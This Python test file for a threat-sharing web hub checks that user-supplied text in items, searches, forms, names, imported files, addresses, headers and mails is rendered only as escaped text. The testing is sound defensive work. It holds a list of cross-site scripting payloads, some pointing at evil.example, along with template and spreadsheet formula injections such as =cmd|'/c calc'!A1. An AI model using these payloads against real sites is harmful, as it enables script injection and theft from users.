# SPDX-License-Identifier: Apache-2.0
"""Script in every field: wherever members, operators or files put text, it comes out as text. Pages and mails are
parsed as a browser would; an element, an attribute or a link that a payload made would be found."""
import csv
import io
import json
import re
import urllib.parse
import uuid

from hub import Form, Hub
from kit import Page, csrf, mails
from tap import case, check, contains, equal, lacks, main, sub

hub = None

# {m} is a word by which a payload is known again.
PAYLOADS = [p.replace("{m}", "xq%dqx" % i) for i, p in enumerate([
    "<script>{m}()</script>", "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>", "</title><script>{m}()</script>",
    "</textarea><img src=x onerror={m}()>", '"><img src=x onerror={m}()>', "'><svg/onload={m}()>",
    "<svg><script>{m}()</script></svg>", "<svg onload={m}()>", "<img src=x onerror={m}()//", "<iframe src=javascript:{m}()>",
    '" onmouseover="{m}()" x="', "' onfocus='{m}()' autofocus='", "onload={m}() x=", "`onclick={m}()`",
    "javascript:{m}()", "java\tscript:{m}()", "JaVaScRiPt:{m}()", "data:text/html,<script>{m}()</script>",
    "vbscript:{m}", "[x](javascript:{m}())", "[x](JAVASCRIPT:{m}())", "[x](data:text/html;base64,{m})",
    "[x](&#106;avascript:{m}())", "![x](javascript:{m}())", "![x](x\" onerror=\"{m}())", "<javascript:{m}()>",
    "<https://a.example/\"onmouseover=\"{m}()>", "[a]: javascript:{m}()\n\n[a]", "[x](https://a.example/ \"t\" onclick={m}())",
    "&lt;script&gt;{m}()&lt;/script&gt;", "&#60;script&#62;{m}()&#60;/script&#62;", "\\u003cscript\\u003e{m}()",
    "<!--><script>{m}()</script>-->", "<![CDATA[<script>{m}()</script>]]>", "<?php {m}() ?>", "<math><mi//xlink:href=\"data:x,{m}\">",
    "<a href=\"javascript:{m}()\">x</a>", "<form action=//evil.example/{m}><button>", "<base href=//evil.example/{m}/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/{m}\">", "<link rel=stylesheet href=//evil.example/{m}>",
    "<style>@import'//evil.example/{m}'</style>", "{{7*7}}${7*7}<%= {m} %>", "\u2028{m}\u2029</script>", "{m}\u202e)(trela\u2069",
    "＜script＞{m}()＜/script＞", "+ADw-script+AD4-{m}()", "%3Cscript%3E{m}()%3C/script%3E", "<scr<script>ipt>{m}()</scr</script>ipt>",
    "=cmd|'/c calc'!A1{m}", "@SUM(1+1){m}", "-2+3+{m}", "+1{m}",
    "```\n</code><script>{m}()</script>\n```", "| a |\n|---|\n| <img src=x onerror={m}()> |",
    "x\n\n<div onclick={m}()>y</div>\n", "~~<b onclick={m}()>~~", "http://a.example/?q=\"><script>{m}()</script>",
    "{m}@evil.example\"><script>", "1.2.3.4\"><img onerror={m}()>",
])]
MARK = re.compile(r"xq\d+qx")
PAYLOADS = [p.strip() if not p.startswith("x\n") else p for p in PAYLOADS]
CLEAN = [p for p in PAYLOADS if not re.search("[\n\t\u2028\u2029\u202e\u2069]", p)]

TAGS = set("html head meta title link script body a header div svg use form label input button span ul li details summary p hr nav "
           "section main footer dialog h1 h2 h3 h4 h5 h6 dl dt dd kbd ol strong em code pre blockquote table thead tbody tr th td "
           "caption fieldset legend textarea select option time small mark article aside figure rect text path b br del desc abbr "
           "figcaption sup sub img i template g line circle noscript".split())


def problem(page, mail=False):
    """What in PAGE cannot come from our own templates; None: nothing."""
    for tag, a in page.tags:
        if tag not in TAGS:
            return "<%s>" % tag
        for name, value in a.items():
            if name.startswith("on") or name in ("srcdoc", "formaction", "xlink:href", "background", "ping", "http-equiv"):
                return "<%s %s=%r>" % (tag, name, value)
            if not re.fullmatch(r"[a-z][a-z0-9_-]*", name) and name != "viewbox":
                return "attribute %r of <%s>" % (name, tag)
            if name == "style" and not mail:
                return "style attribute"
            if MARK.search(name):
                return "a payload became the name of an attribute: %r" % name
            if name in ("href", "src", "action"):
                scheme = urllib.parse.urlsplit(re.sub(r"[\x00-\x20]", "", value)).scheme.lower()
                if scheme not in ("", "http", "https", "mailto") or value.startswith("//"):
                    return "<%s %s=%r>" % (tag, name, value)
                if scheme and name != "href" or (scheme in ("http", "https") and tag not in ("a",)):
                    return "<%s %s=%r>" % (tag, name, value)
        if tag == "script" and not a.get("src", "").startswith("/assets/js/"):
            return "<script> of its own"
        if tag in ("base", "meta") and MARK.search(str(a)):
            return "<%s %r>" % (tag, a)
        if tag == "img" or (tag == "link" and MARK.search(str(a))):
            return "<%s %r>" % (tag, a)
        if tag == "form" and not a.get("action", "/").startswith("/"):
            return "a form that goes to %r" % a.get("action")
    for c in page.comments:
        if MARK.search(c):
            return "a payload within a comment: %r" % c
    return None


seen = {}  # payload -> how often it was found as text


def look(name, text, mail=False):
    if name != "picker":  # long, the same everywhere, and looked at once
        text = re.sub(r'<div class="filter-list".*?</ul></div>', "", text, flags=re.S)
        text = re.sub(r'<select class="select" id="po".*?</select>', "", text, flags=re.S) if name != "members page" else text
    page = Page(text)
    why = problem(page, mail)
    if why:
        at = MARK.search(why) or MARK.search(text)
        sub("%s is clean" % name, False, "%s ... %s" % (why, text[max(0, at.start() - 300):at.start() + 200] if at else ""))
    everything = page.text + "\n" + "\n".join(v for _, a in page.tags for v in a.values())
    for p in CLEAN:
        if p in everything:
            seen.setdefault(p, set()).add(name)
    return everything


def before():
    global hub
    hub = Hub(demo=True)


def marks(text):
    return set(MARK.findall(text))


def quoted(p):
    return urllib.parse.quote(p, safe="")


# -- items -----------------------------------------------------------------------------------------


@case
def titles_and_bodies_of_items():
    c = hub.client("bank")
    org = hub.client("hospital").get("/api/v1/me").json["organisation"]["id"]
    hub.items = {}
    for i, p in enumerate(PAYLOADS):
        title = re.sub(r"[\n\t]", " ", p)[:190].strip()
        a = c.post_json("/api/v1/items", {
            "kind": "alert", "lang": "en", "tlp": "clear" if i % 2 else "green", "severity": "low", "publish": True, "title": title,
            "body": "%s\n\n> %s\n\n* %s\n\nSee 198.51.100.%d and %s" % (p, p, p, i + 1, p), "audience": {"organisations": [org]}})
        check(a.status in (201, 400), "%r: %s" % (p, a.text))
        if a.status == 201:
            hub.items[a.json["id"]] = (title, p)
            equal(c.get("/api/v1/items/" + a.json["id"]).json["title"], title, "JSON gives it back as it was")
    check(len(hub.items) >= len(PAYLOADS) - 4, "refused: %d" % (len(PAYLOADS) - len(hub.items)))
    b = hub.browser("hospital")
    for id, (title, p) in hub.items.items():
        a = b.get("/en/items/" + id)
        text = look("item", a.text)
        if p in CLEAN:
            check(title in text, "the title is there as text: %r" % title)
    for lang in ("en", "zh-hant"):
        page, n = b.get("/%s/items" % lang), set()
        for _ in range(5):
            n |= marks(look("list", page.text))
            more = [x["href"] for t, x in Page(page.text).tags if t == "a" and x.get("rel") == "next"]
            if not more:
                break
            page = b.get(urllib.parse.urljoin("/%s/items" % lang, more[0]))
        check(len(n) >= len(hub.items) - 6, "in the list: %d" % len(n))
    check(marks(look("home", b.get("/en/home").text)), "on the home page")


@case
def released_items_in_the_public_zone():
    o, n = hub.client("operator"), 0
    for i, (id, (title, p)) in enumerate(hub.items.items()):
        if o.post("/api/v1/items/%s/release" % id).status in (200, 204):
            n += 1
            look("advisory", hub.browser().get("/en/advisories/" + id).text)
    check(n > 15, "released: %d" % n)
    for path in ("/en/", "/zh-hans/", "/en/advisories"):
        look("public " + path, hub.browser().get(path).text)


@case
def searches_and_their_results():
    b, v = hub.browser("bank"), hub.browser()
    for p in PAYLOADS:
        for who, path in ((b, "/en/search?q="), (v, "/en/advisories?q="), (b, "/zh-hant/search?q=type:")):
            a = who.get(path + quoted(p))
            check(a.status in (200, 400), "%s%r: %d" % (path, p, a.status))
            text = look("search", a.text)
            if p in CLEAN and a.status == 200 and path == "/en/search?q=":
                check(p in text, "what was typed is in the box: %r" % p)
    for q in ("tlp:<script>", "type:\"><img>", "from:'onload=x", "ip:<svg/onload=1>", "<b>:x", "\"<i>\" AND <u>"):
        look("search with a problem", b.get("/en/search?q=" + quoted(q)).text)


@case
def forms_that_come_back():
    b = hub.browser("bank")
    token = csrf(b, "/en/home")
    for p in PAYLOADS:
        one = re.sub(r"[\n\t]", " ", p)
        for do in ("preview", "publish"):
            a = b.post("/en/write", {"kind": p, "language": p, "title": one, "tlp": "" if do == "publish" else "green", "severity": "low",
                                     "body": p, "audience": "chosen", "people": p, "sector": p, "do": do, "csrf": token})
            check(a.status in (200, 400, 422), "%d %r" % (a.status, p))
            text = look("write, " + do, a.text)
            if p in CLEAN and a.status != 400:
                check(p in text, "what was typed comes back: %r" % p)
        a = b.post("/en/write", {"kind": "alert", "language": "en", "title": one, "tlp": "green", "severity": "low", "body": p,
                                 "audience": "everybody", "do": "preview", "csrf": token})
        look("preview", a.text)
        a = b.post("/en/write", {"kind": "alert", "language": "en", "title": one, "tlp": "green", "severity": "low", "body": p,
                                 "audience": "everybody", "do": "draft", "csrf": token})
        if a.status == 303:
            look("draft", b.get(a.headers["Location"]).text)
    look("drafts", b.get("/en/drafts").text)
    v = hub.browser()
    token = csrf(v)
    for p in CLEAN:
        look("sign-in", v.post("/en/sign-in", {"email": p, "password": "x", "next": p, "csrf": token}).text)
        look("sign-in next", v.get("/en/sign-in?next=" + quoted(p)).text)


@case
def labels_of_keys_and_networks():
    b, n = hub.browser("hospital"), 0
    token = csrf(b, "/en/home")
    lines = []
    for i, p in enumerate(CLEAN):
        a = b.post("/en/organisation/keys", {"label": p[:80], "scope": "read", "days": "30", "csrf": token})
        look("key made", a.text)
        lines.append('100.66.%d.0/24,"%s"' % (i, p.replace('"', '""')))
        a = b.post("/en/watch/networks", {"cidr": p, "label": p, "csrf": token})
        text = look("network refused", a.text)
        if a.status == 422:
            check(p in text, repr(p))
    a = hub.client("hospital").put("/api/v1/networks", "\n".join(lines), type="text/csv")
    equal(a.json["refused"], 0, a.text[:500])
    text = look("watch", b.get("/en/watch").text)
    equal([p for p in CLEAN if p not in text], [], "labels on the watch page")
    text = look("queue", hub.browser("operator").get("/en/queue").text)
    equal([p for p in CLEAN if p not in text], [], "labels in the queue")
    text = look("organisation", b.get("/en/organisation").text)
    check(len(marks(text)) > 5, "labels of keys")
    got = {x["label"] for x in hub.client("hospital").get("/api/v1/networks").json["items"]}
    equal([p for p in CLEAN if p not in got], [], "labels by the API")
    a = b.post("/en/watch/networks", {"cidr": "", "label": "", "lines": "\n".join(p + ",x" for p in CLEAN), "csrf": token})
    look("pasted list", a.text)


# -- names -----------------------------------------------------------------------------------------


@case
def names_of_organisations_and_people():
    o, made = hub.browser("operator"), []
    token = csrf(o, "/en/queue/members")
    for i, p in enumerate(CLEAN):
        a = o.post("/en/queue/members/organisations", {
            "name_en": p, "name_hant": p, "name_hans": p, "domain": "d%d.example" % i, "csrf": token})
        check(a.status in (303, 422), "%d %r %s" % (a.status, p, a.text[-300:]))
        if a.status == 303:
            made.append(p)
        look("members form", a.text)
        look("members form, wrong", o.post("/en/queue/members/organisations", {
            "name_en": "x", "domain": p, "csrf": token}).text)
    check(len(made) > 40, "names that were taken: %d" % len(made))
    text = look("members page", o.get("/en/queue/members").text)
    equal([p for p in made if p not in text], [])
    org = {m.group(2): m.group(1) for m in re.finditer(r'<option value="([a-z2-7]{26})">([^<]*)', o.get("/en/queue/members").text)}
    target = next(v for k, v in org.items() if "xq0qx" in k)
    for i, p in enumerate(CLEAN):
        a = o.post("/en/queue/members/people", {"organisation": target, "name": p[:120], "email": "p%d@d0.example" % i, "language": "en",
                                                "role": "representative", "csrf": token})
        check(a.status in (303, 422), "%d %r" % (a.status, p))
        a = o.post("/en/queue/members/people", {"organisation": target, "name": "x", "email": p[:250], "language": p, "role": p,
                                                "csrf": token})
        look("person refused", a.text)
    b = hub.browser("bank")
    page = b.get("/en/members")
    for _ in range(30):
        look("directory", page.text)
        more = [x["href"] for t, x in Page(page.text).tags if t == "a" and x.get("rel") == "next"]
        if not more:
            break
        page = b.get(more[0])
    text = look("picker", b.get("/en/write").text)
    equal([p for p in made if p not in text], [], "organisations to choose from")
    me = next(p for p in made if "xq0qx" in p)
    a = hub.client("operator").post_json("/api/v1/items", {
        "kind": "alert", "lang": "en", "tlp": "amber", "severity": "low", "publish": True, "title": "For them", "body": "x",
        "audience": {"organisations": [target]}})
    equal(a.status, 201, a.text)
    text = look("who can see this", hub.browser("operator").get("/en/items/" + a.json["id"]).text)
    check(me in text, "the name of the audience")


# -- files -----------------------------------------------------------------------------------------


@case
def rows_and_names_of_imported_files():
    token, o = csrf(hub.browser("operator"), "/en/import"), hub.browser("operator")
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["timestamp", "ip", "port", "protocol", "tag", "infection", "family", "hostname"])
    for i, p in enumerate(PAYLOADS):
        w.writerow(["2026-11-20 01:02:03", "198.18.1.%d" % (i + 1), 443, p, p, p, p, p])
    a = hub.client("operator").post("/api/v1/import?name=" + quoted(PAYLOADS[0] + ".csv"), out.getvalue(), type="text/csv")
    equal((a.status, a.json["refused"]), (200, 0), a.text[:500])
    b = hub.browser("bank")
    page, ids = b.get("/en/watch"), set()
    for _ in range(20):
        look("findings", page.text)
        ids |= set(re.findall(r"/watch/findings/([a-z2-7]{26})", page.text))
        more = [x["href"] for t, x in Page(page.text).tags if t == "a" and x.get("rel") == "next"]
        if not more:
            break
        page = b.get(more[0].split("#")[0])
    found = set()
    for id in ids:
        found |= marks(look("finding", b.get("/en/watch/findings/" + id).text))
    check(len(found) > 50, "evidence that holds payloads: %d" % len(found))
    for p in PAYLOADS[:30]:
        one = re.sub(r'[\r\n"]', "", p)
        body = ('--B\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n%s\r\n--B\r\nContent-Disposition: form-data; name="file"; '
                'filename="%s"\r\n\r\n%s\r\n198.51.100.9\r\n--B--\r\n' % (token, one, one)).encode()
        look("import page", o.post("/en/import", body, type="multipart/form-data; boundary=B").text)
    objects = [{"type": "indicator", "spec_version": "2.1", "id": "indicator--" + str(uuid.uuid5(uuid.NAMESPACE_URL, p)), "name": p,
                "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "pattern_type": "stix",
                "pattern": "[url:value = 'http://a.example/%s']" % p.replace("\\", "\\\\").replace("'", "\\'")} for p in PAYLOADS]
    a = hub.client("bank").post("/api/v1/import", json.dumps(objects))
    equal(a.status, 200, a.text[:300])
    for p in PAYLOADS:
        look("indicator", b.get("/en/indicator?value=" + quoted("http://a.example/" + p)).text)
        look("indicator search", b.get("/en/search?q=" + quoted("http://a.example/" + p)).text)


@case
def addresses_and_headers():
    b, v = hub.browser("bank"), hub.browser()
    for p in PAYLOADS:
        q = quoted(p)
        for who in (b, v):
            for path in ("/en/" + q, "/" + q, "/en/items/" + q, "/en/items?kind=%s&tlp=%s&done=%s" % (q, q, q), "/en/home?" + q + "=" + q,
                         "/en/indicator?value=" + q, "/en/watch?after=%s&scope=%s" % (q, q), "/en/advisories/" + q, "/en/welcome?t=" + q):
                a = who.get(path)
                if (a.headers["Content-Type"] or "").startswith("text/html"):
                    look("address", a.text)
                location = a.headers["Location"] or "/"
                check(re.match(r"/[a-z]", location) or location == "/", "to %r" % location)
        if p.isascii() and "\n" not in p:
            a = b.get("/en/home", headers={"Referer": p, "User-Agent": p, "Accept-Language": p, "X-Forwarded-For": p, "Accept": p})
            equal(a.status, 200)
            look("headers", a.text)
            a = b.get("/api/v1/" + q)
            if "json" in a.headers["Content-Type"]:
                equal(json.loads(a.body)["status"], a.status, "JSON stays JSON")
            else:
                look("address of no API", a.text)


# -- other ways out --------------------------------------------------------------------------------


@case
def mails_hold_text():
    hub.stop()
    n, all_marks = 0, set()
    for m in mails(hub):
        if not MARK.search(m.all):
            continue
        n += 1
        look("mail", m.html, mail=True)
        all_marks |= marks(m.text)
        headers = [k for k, _ in m.message.items()]
        equal(len([h for h in headers if h.lower() == "subject"]), 1)
        check(not any(MARK.search(h) for h in headers), "a payload became a header")
        check("\n" not in m.subject, m.subject)
    hub.start()
    check(n > 50, "mails with payloads: %d" % n)
    check(len(all_marks) > 50, "payloads in mails: %d" % len(all_marks))


@case
def tables_for_spreadsheets_hold_no_formulas():
    c = hub.client("bank")
    body = "\n".join(["=1+1@evil.example.com", "+cmd@evil.example.com", "-x@evil.example.com", "@SUM@evil.example.com",
                      "http://a.example.com/=cmd|'/c calc'!A1", "-evil.example.com", "198.51.100.3"])
    a = c.post_json("/api/v1/items", {"kind": "alert", "lang": "en", "tlp": "green", "severity": "low", "publish": True,
                                      "title": "=cmd|'/c calc'!A1", "body": body,
                                      "audience": {"people": [hub.people["hospital"]["email"]]}})
    equal(a.status, 201, a.text)
    b = hub.browser("hospital")
    ids = [a.json["id"]] + list(hub.items)[:20]
    cells = 0
    for id in ids:
        a = b.get("/en/items/%s/indicators?form=csv" % id)
        equal(a.status, 200)
        contains(a.headers["Content-Type"], "text/csv")
        for row in csv.reader(io.StringIO(a.text)):
            for cell in row:
                cells += 1
                check(not cell or cell[0] not in "=+-@\t\r", "a formula: %r" % cell)
        a = b.get("/en/items/%s/indicators?form=stix" % id)
        json.loads(a.body)
        a = b.get("/en/items/%s/indicators?form=plain" % id)
        contains(a.headers["Content-Type"], "text/plain")
    check(cells > 40, cells)


@case
def most_payloads_were_really_shown():
    lost = [p for p in CLEAN if p not in seen]
    equal(lost, [], "never seen as text: the test would not find them")
    print("# %d payloads on %d kinds of pages" % (len(seen), len(set().union(*seen.values()))))


main(before, lambda: hub.done())
